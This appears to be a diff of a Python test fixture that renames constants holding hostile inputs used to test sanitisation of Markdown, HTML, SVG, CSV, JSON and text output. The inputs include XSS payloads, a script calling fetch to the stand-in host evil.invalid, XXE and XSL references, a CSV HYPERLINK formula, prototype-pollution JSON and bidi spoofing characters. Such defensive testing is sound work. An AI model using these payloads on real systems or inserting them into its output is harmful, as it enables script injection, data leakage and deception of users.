@@ -14,7 +14,7 @@ ELSEWHERE = "http://evil.invalid"
 HARMED = "harmed"
 SCRIPT = f"window.ran=1;document.title='{HARMED}';alert('{HARMED}');fetch('{ELSEWHERE}/script')"
 
-_MARKUP = "\n".join(
+MARKUP = "\n".join(
     (
         f'<script>{SCRIPT}</script><img src=x onerror="{SCRIPT}">',
         f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>',
@@ -30,9 +30,9 @@ _MARKUP = "\n".join(
     )
 )
 
-_MARKDOWN = f"""# A title <img src=x onerror="{SCRIPT}">
+MARKDOWN = f"""# A title <img src=x onerror="{SCRIPT}">
 
-{_MARKUP}
+{MARKUP}
 
 [a link](javascript:{SCRIPT}) [another](data:text/html,<script>{SCRIPT}</script>) [third](vbscript:x)
 ![a picture]({ELSEWHERE}/picture.png) ![second](javascript:{SCRIPT})
@@ -43,11 +43,11 @@ _MARKDOWN = f"""# A title <img src=x onerror="{SCRIPT}">
 | <img src=x onerror="{SCRIPT}"> | ![x]({ELSEWHERE}/cell.png) |
 
 ```html
-{_MARKUP}
+{MARKUP}
 ```
 """
 
-_SVG = "\n".join(
+SVG = "\n".join(
     (
         f'<?xml version="1.0"?><?xml-stylesheet href="{ELSEWHERE}/xsl" type="text/xsl"?>',
         f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{ELSEWHERE}/entity">]>',
@@ -59,15 +59,15 @@ _SVG = "\n".join(
 )
 
 _BIDI = "The sum is \u202e000,1\u202c euro\u2066 and\u200b so\u2069 on\u001b[31m\u0007, pa\u00ady\ufeff now"
-_CSV = f'name,sum\n"=HYPERLINK(""{ELSEWHERE}/csv"")",1\n"{_MARKUP.replace(chr(34), chr(34) * 2)}",2\n'
+_CSV = f'name,sum\n"=HYPERLINK(""{ELSEWHERE}/csv"")",1\n"{MARKUP.replace(chr(34), chr(34) * 2)}",2\n'
 _JSON = '{"__proto__": {"ran": 1}, "constructor": {"prototype": {"ran": 1}}, "a": "<img src=x onerror=alert(1)>"}'
 
 #: By task: the form that it promises, and what it is instead.
 RESULTS: Mapping[str, tuple[str, str]] = {
-    "markdown": ("Markdown", _MARKDOWN),
-    "html": ("HTML", _MARKUP),
-    "svg": ("SVG", _SVG),
-    "text": ("text", _MARKUP + _BIDI),
+    "markdown": ("Markdown", MARKDOWN),
+    "html": ("HTML", MARKUP),
+    "svg": ("SVG", SVG),
+    "text": ("text", MARKUP + _BIDI),
     "csv": ("CSV", _CSV),
     "json": ("JSON", _JSON),
     "code": ("JavaScript code", SCRIPT),
@@ -79,7 +79,7 @@ RESULTS: Mapping[str, tuple[str, str]] = {
 def hostile_plan() -> Mapping[str, Any]:
     """Returns a plan whose texts and results are all hostile."""
     tasks = [
-        printing(name, content, form=form, description=f"{_MARKUP} {_BIDI} {name}")
+        printing(name, content, form=form, description=f"{MARKUP} {_BIDI} {name}")
         for name, (form, content) in RESULTS.items()
     ]
-    return plan(*tasks, idea=f"{_MARKUP} {_BIDI}")
+    return plan(*tasks, idea=f"{MARKUP} {_BIDI}")
